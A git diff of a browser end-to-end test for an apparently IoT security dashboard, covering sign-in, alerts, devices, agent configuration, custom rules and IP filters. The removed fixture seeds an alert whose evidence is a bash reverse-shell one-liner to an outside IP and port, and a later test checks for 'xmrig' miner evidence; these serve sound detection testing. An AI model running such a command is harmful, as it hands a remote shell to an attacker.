@@ -1,56 +1,29 @@
-import { mkdir, mkdtemp, rm } from 'node:fs/promises';
-import { tmpdir } from 'node:os';
+import { mkdir } from 'node:fs/promises';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Browser, Page } from 'playwright-core';
-import type { FastifyInstance } from 'fastify';
-import { openSqliteStore, type Store } from '@vigil/storage';
-import { createApi, TokenStore } from '@vigil/server';
-import { browserAvailable, launchBrowser, watchConsole } from './browser.js';
+import { VigilClient } from '@vigil/api-client';
+import { browserAvailable, launchBrowser, takeExpectedErrors, watchConsole } from './browser.js';
 import { buildDashboard } from './build-dashboard.js';
+import { CONFIGURED_DEVICE, eventually, startLiveServer, type LiveServer } from './live-server.js';
 
 const SCREENSHOTS = join(process.cwd(), 'test-results', 'dashboard');
+const CONFIGURATION = 'ms_iotn:urn_azureiot_Security_SecurityAgentConfiguration';
 const run = browserAvailable();
 
-describe.runIf(run)('dashboard in a real browser', () => {
-  let dir: string;
-  let store: Store;
-  let api: FastifyInstance;
-  let baseUrl: string;
-  let adminToken: string;
+describe.runIf(run)('dashboard in a real browser against a running server and simulated fleet', () => {
+  let live: LiveServer;
+  let client: VigilClient;
   let browser: Browser;
   let page: Page;
   let consoleErrors: string[];
+  const shot = (name: string) => page.screenshot({ path: join(SCREENSHOTS, `${name}.png`), fullPage: true });
+  const open = (route: string) => page.goto(`${live.server.url}/#/${route}`);
 
   beforeAll(async () => {
-    const dashboard = await buildDashboard();
-    dir = await mkdtemp(join(tmpdir(), 'vigil-dashboard-'));
-    store = await openSqliteStore({ dataDir: dir });
-    const tokens = await TokenStore.open(dir);
-    adminToken = (await tokens.create('admin', 'browser test')).token;
-    const now = Date.now();
-    await store.alerts.raise({
-      typeId: 'Vigil_ReverseShell',
-      deviceId: 'router-yard',
-      key: '/bin/bash',
-      occurrenceId: 'seed-1',
-      severity: 'high',
-      title: 'Reverse shell',
-      at: now - 60_000,
-      evidence: { commandLine: 'bash -i >& /dev/tcp/45.155.205.99/4444 0>&1', userName: 'www-data' },
-      remediation: ['Kill the process and its parent.'],
-    });
-    await store.alerts.raise({
-      typeId: 'Vigil_FailedBruteForce',
-      deviceId: 'kiosk-lobby',
-      key: '45.155.205.7',
-      occurrenceId: 'seed-2',
-      severity: 'low',
-      title: 'Failed brute force attempt',
-      at: now - 3 * 3600_000,
-    });
-    api = await createApi({ store, tokens, dashboardDirectory: dashboard });
-    baseUrl = await api.listen({ port: 0, host: '127.0.0.1' });
+    await buildDashboard();
+    live = await startLiveServer();
+    client = new VigilClient({ baseUrl: live.server.url, token: live.adminToken });
     browser = await launchBrowser();
     page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
     consoleErrors = watchConsole(page);
@@ -59,50 +32,141 @@ describe.runIf(run)('dashboard in a real browser', () => {
 
   afterAll(async () => {
     await browser?.close();
-    await api?.close();
-    await store?.close();
-    if (dir !== undefined) await rm(dir, { recursive: true, force: true });
+    await live?.stop();
   });
 
-  it('refuses a wrong token, then signs in and shows the overview chart with the seeded alerts', async () => {
-    await page.goto(baseUrl);
+  it('refuses a wrong token, then signs in and shows the overview chart with the attack alert', async () => {
+    // The miner scenario plays within a second; the overview should open on a real alert.
+    await eventually(async () =>
+      (await client.listAlerts({ typeId: 'Vigil_CryptoMiner' })).total > 0 ? true : undefined,
+    );
+    await page.goto(live.server.url);
     await page.getByLabel('API token').fill('vgl_not-a-token');
     await page.getByRole('button', { name: 'Sign in' }).click();
     await page.getByRole('alert').filter({ hasText: 'not valid' }).waitFor();
-    // A refused token shows up as a 401 in the console; that one is expected.
-    consoleErrors.splice(0);
-    await page.getByLabel('API token').fill(adminToken);
+    expect(takeExpectedErrors(consoleErrors, 401)).toBeGreaterThan(0);
+    await page.getByLabel('API token').fill(live.adminToken);
     await page.getByRole('button', { name: 'Sign in' }).click();
     await page.getByRole('heading', { name: 'Fleet overview' }).waitFor();
     await page.getByRole('img', { name: /Alerts per hour/ }).waitFor();
     expect(await page.getByTestId('chart-bar').count()).toBe(24);
-    expect(await page.locator('rect.bar').count()).toBe(2);
-    expect(await page.getByText('router-yard').count()).toBeGreaterThan(0);
-    await page.screenshot({ path: join(SCREENSHOTS, 'overview.png'), fullPage: true });
+    expect(await page.locator('rect.bar').count()).toBeGreaterThan(0);
+    expect(await page.getByRole('link', { name: 'hmi-1' }).count()).toBe(1);
+    await shot('overview');
     expect(consoleErrors).toEqual([]);
   });
 
-  it('opens an alert from the list, shows its evidence and remediation, and dismisses it', async () => {
+  it('opens the alert the simulated miner raised, shows its evidence, and dismisses it', async () => {
     await page.getByRole('link', { name: 'Alerts', exact: true }).click();
-    await page.getByRole('link', { name: 'Reverse shell' }).click();
+    await page.getByRole('link', { name: 'Crypto coin miner' }).first().click();
     await page.getByTestId('evidence').first().waitFor();
-    expect(await page.getByTestId('evidence').first().textContent()).toContain('/dev/tcp/45.155.205.99/4444');
-    expect(await page.getByText('Kill the process and its parent.').count()).toBe(1);
-    await page.screenshot({ path: join(SCREENSHOTS, 'alert.png'), fullPage: true });
-    await page.getByLabel('Note').fill('pen test window');
+    expect(await page.getByTestId('evidence').first().textContent()).toContain('xmrig');
+    await shot('alert');
+    await page.getByLabel('Note').fill('lab device');
     await page.getByRole('button', { name: 'Dismiss' }).click();
     await page.getByTestId('alert-status').filter({ hasText: 'dismissed' }).waitFor();
-    expect(await page.getByText('dismissed by admin: pen test window').count()).toBe(1);
-    const stored = await store.alerts.list({ status: 'dismissed' });
-    expect(stored.map((alert) => alert.typeId)).toEqual(['Vigil_ReverseShell']);
-    await page.screenshot({ path: join(SCREENSHOTS, 'alert-dismissed.png'), fullPage: true });
+    const dismissed = await client.listAlerts({ status: 'dismissed' });
+    expect(dismissed.items.map((alert) => alert.typeId)).toContain('Vigil_CryptoMiner');
+    await shot('alert-dismissed');
     expect(consoleErrors).toEqual([]);
   });
 
-  it('shows a designed empty state when no alert matches', async () => {
-    await page.goto(`${baseUrl}/#/alerts?severity=medium`);
-    await page.getByText('No alerts match these filters').waitFor();
-    await page.screenshot({ path: join(SCREENSHOTS, 'alerts-empty.png'), fullPage: true });
+  it('lists the devices with connection state and opens one with its events and network flow chart', async () => {
+    await page.getByRole('link', { name: 'Devices', exact: true }).click();
+    await page.getByTestId('device-row').nth(2).waitFor();
+    expect(await page.getByTestId('device-row').count()).toBe(3);
+    const gateway = page.getByTestId('device-row').filter({ hasText: 'gw-1' });
+    expect(await gateway.textContent()).toContain('symmetric key');
+    await shot('devices');
+    await page.getByRole('link', { name: 'gw-1', exact: true }).click();
+    await page.getByRole('img', { name: /Network flows per minute/ }).waitFor();
+    expect(await page.locator('rect.bar.flows').count()).toBeGreaterThan(0);
+    await page.getByTestId('event-row').first().waitFor();
+    expect(await page.getByText('ConnectionCreate').count()).toBeGreaterThan(0);
+    await shot('device');
+    expect(consoleErrors).toEqual([]);
+  });
+
+  it('validates an agent configuration edit, saves it, and shows the configuration the agent reports back', async () => {
+    await open(`devices/${CONFIGURED_DEVICE}`);
+    const editor = page.getByLabel('Desired agent configuration');
+    await editor.waitFor();
+    await editor.fill('{ "eventPriorityLogin": { "value": "Sometimes" }, "colour": { "value": 1 } }');
+    await page.getByRole('button', { name: 'Save configuration' }).click();
+    const problems = page.getByRole('alert', { name: 'Configuration problems' });
+    await problems.waitFor();
+    expect(await problems.locator('li').count()).toBe(2);
+    expect(live.responder.received).toEqual([]);
+    await editor.fill(
+      '{ "highPriorityMessageFrequency": { "value": "PT1M" }, "eventPriorityConnectionCreate": { "value": "High" } }',
+    );
+    await page.getByRole('button', { name: 'Save configuration' }).click();
+    await page.getByTestId('reported-config').filter({ hasText: 'PT1M' }).waitFor({ timeout: 15_000 });
+    const twin = await client.getTwin({ deviceId: CONFIGURED_DEVICE, moduleId: 'azureiotsecurity' });
+    expect(twin.properties.reported[CONFIGURATION]).toMatchObject({
+      highPriorityMessageFrequency: { value: 'PT1M' },
+      eventPriorityConnectionCreate: { value: 'High' },
+    });
+    await shot('device-agent-configuration');
+    expect(consoleErrors).toEqual([]);
+  });
+
+  it('edits a custom rule with inline validation errors, then sees it enforced as an alert', async () => {
+    await open('security-groups');
+    // Every device without a SecurityGroup tag is in `default`, which exists with every rule disabled.
+    const group = page.getByRole('article', { name: 'Security group default' });
+    await group.getByText('defaults, never changed').waitFor();
+    const rule = group.getByTestId('rule-ActiveConnectionsNotInAllowedRange');
+    await rule.waitFor();
+    await rule.getByLabel('ActiveConnectionsNotInAllowedRange enabled').check();
+    await rule.getByLabel('ActiveConnectionsNotInAllowedRange max').fill('lots');
+    await rule.getByLabel('ActiveConnectionsNotInAllowedRange window').fill('PT10S');
+    await rule.getByRole('button', { name: 'Save ActiveConnectionsNotInAllowedRange' }).click();
+    await rule.getByText('must be a whole number').waitFor();
+    expect(await rule.getByText('must be an ISO-8601 duration').count()).toBe(1);
+    expect(takeExpectedErrors(consoleErrors, 400)).toBe(1);
+    await shot('security-groups-invalid');
+    await rule.getByLabel('ActiveConnectionsNotInAllowedRange max').fill('2');
+    await rule.getByLabel('ActiveConnectionsNotInAllowedRange window').fill('PT15M');
+    await rule.getByRole('button', { name: 'Save ActiveConnectionsNotInAllowedRange' }).click();
+    await rule.getByText('saved').waitFor();
+    const stored = (
+      await client.request<{ rules: { ruleId: string }[] }>('GET', '/api/security-groups/default')
+    ).rules;
+    expect(
+      stored.find((candidate) => candidate.ruleId === 'ActiveConnectionsNotInAllowedRange'),
+    ).toMatchObject({
+      enabled: true,
+      min: 0,
+      max: 2,
+      window: 'PT15M',
+    });
+    // The gateway reports several connections every tick: over a max of 2 within seconds.
+    await eventually(async () =>
+      (await client.deviceEvents('gw-1', { name: 'ConnectionCreate' })).items.length >= 3 ? true : undefined,
+    );
+    await live.server.analytics.runPeriodicChecks();
+    await open('alerts?deviceId=gw-1');
+    await page.getByRole('link', { name: /Custom alert - Number of active connections/ }).waitFor();
+    await shot('custom-rule-alert');
+    expect(consoleErrors).toEqual([]);
+  });
+
+  it('shows hub settings and saves an IP filter rule after the API refused a bad address', async () => {
+    await open('hub');
+    await page.getByText('No CA certificates').waitFor();
+    await page.getByText('No diagnostic settings').waitFor();
+    await page.getByRole('button', { name: 'Add rule' }).click();
+    await page.getByLabel('Rule 1 address').fill('not-an-address');
+    await page.getByRole('button', { name: 'Save IP filter' }).click();
+    await page.getByTestId('ip-rule').getByRole('alert').waitFor();
+    expect(takeExpectedErrors(consoleErrors, 400)).toBe(1);
+    await page.getByLabel('Rule 1 address').fill('127.0.0.0/8');
+    await page.getByRole('button', { name: 'Save IP filter' }).click();
+    await page.getByRole('status').filter({ hasText: 'Saved' }).waitFor();
+    const filter = await client.request<{ rules: { ipMask: string }[] }>('GET', '/api/hub/ip-filter');
+    expect(filter.rules.map((rule) => rule.ipMask)).toEqual(['127.0.0.0/8']);
+    await shot('hub-settings');
     expect(consoleErrors).toEqual([]);
   });
 });
